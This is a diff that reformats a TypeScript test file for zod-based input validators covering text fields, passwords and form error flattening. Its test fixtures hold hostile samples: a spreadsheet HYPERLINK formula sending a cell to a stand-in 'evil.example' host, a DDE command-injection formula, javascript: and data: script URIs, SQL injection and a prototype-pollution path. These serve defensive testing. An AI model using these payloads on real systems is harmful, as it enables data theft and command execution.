@@ -25,7 +25,7 @@ const HOSTILE_TEXT = [
   'javascript:alert(1)',
   'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
   '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-  '=cmd|\'/c calc\'!A0',
+  "=cmd|'/c calc'!A0",
   '@SUM(1,2)',
   '＝1+1',
   'аdmin', // Cyrillic а
@@ -58,13 +58,19 @@ describe('text()', () => {
     expect(name.parse('Ada  \t Lovelace')).toBe('Ada  \t Lovelace');
   });
 
-  it.each(['', '   ', '\n\t', '\u2028'])('rejects the empty or blank %j as required, naming the label', (value) => {
-    expect(failure(name, value)).toBe('Name is required');
-  });
+  it.each(['', '   ', '\n\t', '\u2028'])(
+    'rejects the empty or blank %j as required, naming the label',
+    (value) => {
+      expect(failure(name, value)).toBe('Name is required');
+    },
+  );
 
-  it.each([undefined, null, 42, {}, ['x']])('rejects the non-string %j, naming the label', (value) => {
-    expect(failure(name, value)).toBe('Name is required');
-  });
+  it.each([undefined, null, 42, {}, ['x']])(
+    'rejects the non-string %j, naming the label',
+    (value) => {
+      expect(failure(name, value)).toBe('Name is required');
+    },
+  );
 
   it.each([
     ['NUL', 'a\u0000b'],
@@ -90,7 +96,9 @@ describe('text()', () => {
   });
 
   it('rejects a 1 MB string without trouble', () => {
-    expect(failure(text('Reason', 2000), 'x'.repeat(1024 * 1024))).toBe('Reason must be at most 2000 characters');
+    expect(failure(text('Reason', 2000), 'x'.repeat(1024 * 1024))).toBe(
+      'Reason must be at most 2000 characters',
+    );
   });
 });
 
@@ -142,13 +150,19 @@ describe('passwordSchema', () => {
   });
 
   it('accepts exactly the minimum and the maximum length', () => {
-    expect(passwordSchema.parse('x'.repeat(PASSWORD_MIN_LENGTH))).toBe('x'.repeat(PASSWORD_MIN_LENGTH));
+    expect(passwordSchema.parse('x'.repeat(PASSWORD_MIN_LENGTH))).toBe(
+      'x'.repeat(PASSWORD_MIN_LENGTH),
+    );
     expect(passwordSchema.parse('x'.repeat(PASSWORD_MAX_LENGTH))).toHaveLength(PASSWORD_MAX_LENGTH);
   });
 
   it('rejects one under the minimum and one over the maximum', () => {
-    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MIN_LENGTH - 1))).toBe('Password must be at least 12 characters');
-    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MAX_LENGTH + 1))).toBe('Password must be at most 256 characters');
+    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MIN_LENGTH - 1))).toBe(
+      'Password must be at least 12 characters',
+    );
+    expect(failure(passwordSchema, 'x'.repeat(PASSWORD_MAX_LENGTH + 1))).toBe(
+      'Password must be at most 256 characters',
+    );
   });
 
   it('does not trim: surrounding spaces are part of the password', () => {
@@ -156,12 +170,20 @@ describe('passwordSchema', () => {
   });
 
   it('rejects NUL and lone surrogates', () => {
-    expect(failure(passwordSchema, 'correct horse\u0000battery')).toBe('Password contains a NUL or an invalid Unicode character');
-    expect(failure(passwordSchema, 'correct horse\uD800battery')).toBe('Password contains a NUL or an invalid Unicode character');
+    expect(failure(passwordSchema, 'correct horse\u0000battery')).toBe(
+      'Password contains a NUL or an invalid Unicode character',
+    );
+    expect(failure(passwordSchema, 'correct horse\uD800battery')).toBe(
+      'Password contains a NUL or an invalid Unicode character',
+    );
   });
 
   it('accepts hostile-looking passwords as they are', () => {
-    for (const value of ["' OR '1'='1 -- long enough", '<script>alert(1)</script>', 'pässwörd-😀-long']) {
+    for (const value of [
+      "' OR '1'='1 -- long enough",
+      '<script>alert(1)</script>',
+      'pässwörd-😀-long',
+    ]) {
       expect(passwordSchema.parse(value)).toBe(value);
     }
   });
@@ -179,7 +201,12 @@ describe('fieldErrors', () => {
     .refine((v) => v.name !== 'root', 'Name must not be root');
 
   it('flattens nested paths with dots and keeps the first message per field', () => {
-    const result = schema.safeParse({ name: 'much too long', email: 'nope', address: { city: '' }, tags: ['ok', 'toolong', 'x\u0000'] });
+    const result = schema.safeParse({
+      name: 'much too long',
+      email: 'nope',
+      address: { city: '' },
+      tags: ['ok', 'toolong', 'x\u0000'],
+    });
     expect(result.success).toBe(false);
     expect(fieldErrors(result.error!)).toEqual({
       name: 'Name must be at most 5 characters',
@@ -191,13 +218,24 @@ describe('fieldErrors', () => {
   });
 
   it('puts form-level errors under "_"', () => {
-    const result = schema.safeParse({ name: 'root', email: 'a@example.com', address: { city: 'Oslo' }, tags: [] });
+    const result = schema.safeParse({
+      name: 'root',
+      email: 'a@example.com',
+      address: { city: 'Oslo' },
+      tags: [],
+    });
     expect(result.success).toBe(false);
     expect(fieldErrors(result.error!)).toEqual({ _: 'Name must not be root' });
   });
 
   it('reports unknown keys rejected by strict()', () => {
-    const result = schema.safeParse({ name: 'ok', email: 'a@example.com', address: { city: 'Oslo' }, tags: [], isAdmin: true });
+    const result = schema.safeParse({
+      name: 'ok',
+      email: 'a@example.com',
+      address: { city: 'Oslo' },
+      tags: [],
+      isAdmin: true,
+    });
     expect(result.success).toBe(false);
     const errors = fieldErrors(result.error!);
     expect(Object.keys(errors)).toEqual(['_']);
@@ -212,7 +250,9 @@ describe('fieldErrors', () => {
   });
 
   it('does not let a "__proto__" path pollute the result', () => {
-    const error = new z.ZodError([{ code: 'custom', path: ['__proto__'], message: 'bad', input: undefined }]);
+    const error = new z.ZodError([
+      { code: 'custom', path: ['__proto__'], message: 'bad', input: undefined },
+    ]);
     const errors = fieldErrors(error);
     expect(Object.getPrototypeOf(errors)).toBe(Object.prototype);
     expect(({} as Record<string, unknown>).bad).toBeUndefined();
